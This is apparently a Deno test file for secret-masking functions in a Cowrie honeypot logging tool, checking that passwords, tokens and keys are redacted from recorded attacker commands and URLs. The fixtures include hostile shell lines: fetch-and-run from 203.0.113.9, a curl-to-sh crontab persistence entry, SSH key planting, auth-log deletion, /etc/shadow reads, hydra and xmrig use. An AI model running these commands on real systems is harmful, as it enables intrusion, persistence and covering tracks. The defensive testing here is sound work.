import assert from "node:assert/strict";
import { maskSecrets, maskUrl } from "../../src/cowrie/session_secrets.ts";

Deno.test("maskSecrets() takes passwords out of commands that set or pass them", () => {
  const masked: Readonly<Record<string, string>> = {
    'echo "root:hunter2"|chpasswd|bash': "echo *** |chpasswd|bash",
    "echo root:hunter2 | sudo chpasswd": "echo *** | sudo chpasswd",
    'echo -e "old\\nhunter2\\nhunter2"|passwd': "echo -e *** |passwd",
    'printf "a|b;c&hunter2" | /usr/bin/passwd root': "printf *** | /usr/bin/passwd root",
    "cd /; echo hunter2 | busybox passwd --stdin root":
      "cd /; echo *** | busybox passwd --stdin root",
    "echo hunter2 | sudo -S id": "echo *** | sudo -S id",
    "chpasswd <<< root:hunter2": "chpasswd <<< ***",
    "chpasswd <<EOF\nroot:hunter2\nEOF": "chpasswd <<EOF ***",
    "wget http://u:hunter2@203.0.113.9/x": "wget http://***@203.0.113.9/x",
    "curl -u admin:hunter2 http://203.0.113.9": "curl -u *** http://203.0.113.9",
    "curl --user 'admin:hunter2' x": "curl --user *** x",
    "wget --password=hunter2 --user=a x": "wget --password=*** --user=a x",
    "tool --http-password 'hunter2 x' y": "tool --http-password *** y",
    "tool --token hunter2": "tool --token ***",
    "sshpass -p hunter2 ssh root@203.0.113.9": "sshpass -p*** ssh root@203.0.113.9",
    "sshpass -phunter2 ssh root@203.0.113.9": "sshpass -p*** ssh root@203.0.113.9",
    "mysql -uroot -phunter2 -e 'show databases'": "mysql -uroot -p*** -e 'show databases'",
    "useradd -m -p hunter2 bob": "useradd -m -p *** bob",
    "redis-cli -h a -a hunter2 info": "redis-cli -h a -a *** info",
    "openssl passwd -1 hunter2": "openssl passwd -1 ***",
    "PGPASSWORD=hunter2 psql": "PGPASSWORD=*** psql",
    "export AWS_SECRET_ACCESS_KEY=hunter2": "export AWS_SECRET_ACCESS_KEY=***",
    "curl 'http://a/?token=hunter2&x=1'": "curl 'http://a/?token=***&x=1'",
    "curl -H 'Authorization: Bearer hunter2' a": "curl -H 'Authorization: *** ***' a",
    'curl -d \'{"password": "hunter2"}\' a': "curl -d '{\"password\": ***}' a",
    "git clone https://ghp_0123456789abcdefghij0123456789abcdef@github.com/a/b":
      "git clone https://***@github.com/a/b",
    "x AKIAABCDEFGHIJKLMNOP": "x ***",
    "bot 1234567890:AAabcdefghijklmnopqrstuvwxyz0123456": "bot ***",
    "curl https://a/bot1234567890:AAabcdefghijklmnopqrstuvwxyz0123456/x": "curl https://a/bot***/x",
    "curl -uadmin:hunter2 a": "curl -u*** a",
    "curl -sku admin:hunter2 a": "curl -sku *** a",
    "curl -u 'admin':'hunter2' a": "curl -u *** a",
    "curl -x u:hunter2@203.0.113.9:80 a": "curl -x ***@203.0.113.9:80 a",
    "lftp -u a,hunter2 b": "lftp -u *** b",
    "smbclient -U 'a%hunter2' //b": "smbclient -U *** //b",
    "mysql -p$'hunter2' -e x": "mysql -p*** -e x",
    "tool --password=a\\ hunter2 y": "tool --password=*** y",
    "PASS='a'\"hunter2\" x": "PASS=*** x",
    'curl -d "{\\"password\\":\\"hunter2\\",\\"a\\":1}" b': 'curl -d "{\\"password\\":***" b',
    'curl -d \'{"password":"hunter2","url":"http://a"}\' b':
      'curl -d \'{"password":***,"url":"http://a"}\' b',
    'curl -H "Cookie: a=hunter2; b=hunter2" c': 'curl -H "Cookie: ***" c',
    "curl -b PHPSESSID=hunter2 a": "curl -b *** a",
    "mysqladmin -u root password 'hunter2'": "mysqladmin -u root password ***",
    "mysql -e \"ALTER USER a IDENTIFIED BY 'hunter2'\"":
      'mysql -e "ALTER USER a IDENTIFIED BY ***"',
    "psql -c \"ALTER USER a WITH PASSWORD 'hunter2'\"": 'psql -c "ALTER USER a WITH PASSWORD ***"',
    "redis-cli config set requirepass hunter2": "redis-cli config set requirepass ***",
    "redis-cli AUTH hunter2": "redis-cli AUTH ***",
    "aws configure set aws_secret_access_key hunter2":
      "aws configure set aws_secret_access_key ***",
    "docker login -u a -p hunter2": "docker login -u a -p ***",
    "unzip -P hunter2 a.zip": "unzip -P *** a.zip",
    "openssl enc -k hunter2 -in a": "openssl enc -k *** -in a",
    "htpasswd -nb a hunter2": "htpasswd -nb a ***",
    'usermod -p $(perl -e \'print crypt("hunter2","ab")\') a':
      "usermod -p *** -e 'print crypt(***,\"ab\")') a",
    "echo 'a:$6$salt$hunter2hunter2:0:0::/:/bin/sh' >> /etc/passwd":
      "echo 'a:***:0:0::/:/bin/sh' >> /etc/passwd",
    "(echo hunter2; echo hunter2) | passwd root": "( *** ) | passwd root",
    "cd /; { echo hunter2; echo hunter2; } | passwd": "cd /; { *** } | passwd",
    "echo hunter2 | (passwd root)": "echo *** | (passwd root)",
    "cat <<EOF | chpasswd\nroot:hunter2\nEOF": "cat *** | chpasswd ***",
    "chpasswd <<EOF\\x0aroot:hunter2\\x0aEOF": "chpasswd <<EOF ***",
    "cat <<EOF|chpasswd\\x0aroot:hunter2\\x0aEOF; \\x01": "cat *** |chpasswd ***",
    "cd /\\x0apasswd <<< hunter2\\x0aid": "cd /\\x0apasswd <<< ***\\x0aid",
    "chpasswd < <(echo root:hunter2)": "chpasswd < <(echo root:***)",
    "echo root:hunter2 > /tmp/p; chpasswd < /tmp/p": "echo root:*** > /tmp/p; chpasswd < /tmp/p",
    "curl -u admin:'hunter2' e": "curl -u *** e",
    "wget --password=ab'hunter2' e": "wget --password=*** e",
    'export PASSWORD=a"hunter2"': "export PASSWORD=***",
    "mysql -pA'hunter2' -e x": "mysql -p*** -e x",
    'sshpass -p a"hunter2" ssh h': "sshpass -p*** ssh h",
    "openssl passwd -1 -salt ab hunter2": "openssl passwd -1 -salt ab ***",
    "mkpasswd -m sha-512 hunter2": "mkpasswd -m sha-512 ***",
    "hydra -l root -phunter2 h": "hydra -l root -p*** h",
    "./xmrig -o pool -u w -phunter2": "./xmrig -o pool -u w -p***",
    "ftpget -uanon -phunter2 h x x": "ftpget -uanon -p*** h x x",
    "useradd -m -phunter2 bob": "useradd -m -p*** bob",
    "PASSWORD=$(echo hunter2) x": "PASSWORD=*** x",
    "PASSWORD=`echo hunter2` x": "PASSWORD=*** x",
    'curl -H \'Authorization: Digest username="a", response="hunter2"\' e':
      "curl -H 'Authorization: *** ***' e",
    "curl -H Authorization:Bearer\\ hunter2 e": "curl -H Authorization:*** e",
    'curl -b "session=hunter2" e': "curl -b *** e",
    "aws configure set aws_session_token hunter2": "aws configure set aws_session_token ***",
    "echo '-----BEGIN OPENSSH PRIVATE KEY-----\nhunter2\n-----END OPENSSH PRIVATE KEY-----' > k":
      "echo '-----BEGIN OPENSSH PRIVATE KEY----- *** -----END OPENSSH PRIVATE KEY-----' > k",
    "x sk_live_hunter2hunter2 y": "x *** y",
    "x SG.hunter2hunter2hunter2.hunter2hunter2hunter2 y": "x *** y",
    "x AIzahunter2hunter2hunter2hunter2hunter2 y": "x *** y",
    "expect -c 'spawn passwd; send \"hunter2\\r\"'": "expect -c 'spawn passwd; send ***'",
    "echo machine e login a password hunter2 >> ~/.netrc":
      "echo machine e login a password *** >> ~/.netrc",
    "vncpasswd <<< hunter2": "vncpasswd <<< ***",
    "p=hunter2; echo root:$p|chpasswd": "p=***; echo *** |chpasswd",
    "sed 's/x/root:hunter2/' f | chpasswd": "sed 's/x/root:***' f | chpasswd",
    "base64 -d <<< aHVudGVyMg== | chpasswd": "base64 -d <<< *** | chpasswd",
    "curl https://discord.com/api/webhooks/1234567890/hunter2-hunter2 -d @x":
      "curl https://discord.com/api/webhooks/1234567890/*** -d @x",
    "curl https://hooks.slack.com/services/T0/B0/hunter2":
      "curl https://hooks.slack.com/services/***",
    "wget 'http://a/?u=root&p=hunter2&x=1'": "wget 'http://a/?u=root&p=***&x=1'",
  };
  for (const [command, expected] of Object.entries(masked)) {
    assert.equal(maskSecrets(command), expected);
  }
});

Deno.test("maskSecrets() leaves commands alone that have no secret", () => {
  for (
    const command of [
      "uname -a",
      "mkdir -p /tmp/.x; cd /tmp/.x",
      "ssh -p 2222 root@203.0.113.9",
      "netstat -p tcp",
      "cat /etc/passwd | grep root",
      "echo ok | cat; passwd root",
      "cat /etc/shadow",
      "which passwd chpasswd",
      "wget http://203.0.113.9/x.sh -O- | sh",
      "ls -la /home; ps aux | grep -v auth",
      'echo "ssh-rsa AAAAB3NzaC1yc2E= a" >> .ssh/authorized_keys',
      "kill -9 $(pgrep -f bot); rm -rf /var/log/auth.log",
      "date -u +%s; docker run -p 80:80 -v /:/mnt a",
      "sqlmap -u http://203.0.113.9/?id=1",
      "wget -U 'Mozilla/5.0 (X11, a)' -P /tmp http://203.0.113.9/x",
      "ssh-keygen -t rsa -N '' -f k; git clone git@example.org:a/b",
      "grep -r password /var/www; awk -F: '{print $1}' /etc/passwd",
      "(crontab -l; echo '* * * * * curl http://203.0.113.9:80/a@b|sh') | crontab -",
    ]
  ) assert.equal(maskSecrets(command), command);
});

Deno.test("maskSecrets() takes time in proportion to the command", () => {
  for (
    const part of [
      "echo a|passwd ",
      '"',
      "-p ",
      "pass",
      "a:",
      "://",
      "<<<passwd ",
      "htpasswd -b ",
      "|sudo -a ",
      "(a)|passwd ",
      "cookie:",
      "identified by ",
      "$6$a",
      "<<a|passwd\n",
      "<<a|",
      "htpasswd -",
      "chpasswd a:",
      "||//",
      "eyJ-",
      "a'b",
      'p=a"b',
      "pass=$(",
      "pass=`a",
      "<<< a|passwd ",
      "curl -b a=",
      "mkpasswd -m a ",
      "-----BEGIN PRIVATE KEY-----",
      "?u=a&x=b&",
      "spawn send a",
      "chpasswd a=b ",
      "authorization: digest response=",
      "machine a login b ",
    ]
  ) {
    const of = (times: number) => {
      const text = part.repeat(times).slice(0, 64 * 1024);
      const begun = performance.now();
      maskSecrets(text);
      return performance.now() - begun;
    };
    assert.ok(of(65_536) < 4_000, part);
  }
});

Deno.test("maskUrl() takes secrets out of every part of an address", () => {
  const masked: Readonly<Record<string, string>> = {
    "ftp://a:hunter2@203.0.113.9/x": "ftp://203.0.113.9/x",
    "http://203.0.113.9/?u=root&p=hunter2": "http://203.0.113.9/?u=root&p=***",
    "https://discord.com/api/webhooks/1234/hunter2": "https://discord.com/api/webhooks/1234/***",
    "http://203.0.113.9/x;password=hunter2": "http://203.0.113.9/x;password=***",
    "http://203.0.113.9/x#token=hunter2": "http://203.0.113.9/x#token=***",
    "http://203.0.113.9/?a[password]=hunter2": "http://203.0.113.9/?a%5Bpassword%5D=***",
    "http://203.0.113.9/?p%61ss=hunter2": "http://203.0.113.9/?pass=***",
    "http://203.0.113.9/?X-Amz-Signature=hunter2": "http://203.0.113.9/?X-Amz-Signature=***",
    "http://203.0.113.9/?u=http://a:hunter2@b/": "http://203.0.113.9/?u=http%3A%2F%2F***%40b%2F",
    "http://203.0.113.9/?x=ghp_0123456789abcdefghij0123456789abcdef": "http://203.0.113.9/?x=***",
    "https://a.example/bot1234567890:AAabcdefghijklmnopqrstuvwxyz0123456/x":
      "https://a.example/bot***/x",
  };
  for (const [url, expected] of Object.entries(masked)) {
    assert.equal(maskUrl(new URL(url)).href, expected);
  }
  for (const url of ["http://203.0.113.9/a:b/x.sh?id=1&cmd=cd+/tmp#a", "tftp://203.0.113.9/x"]) {
    assert.equal(maskUrl(new URL(url)).href, url);
  }
});

Deno.test("maskSecrets() masks a JSON web token behind a hyphen, too", () => {
  const token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl";
  assert.equal(maskSecrets(`echo ${token}`), "echo ***");
  assert.equal(
    maskSecrets(`wget http://a.example/x/reset-${token}`),
    "wget http://a.example/x/reset-***",
  );
});
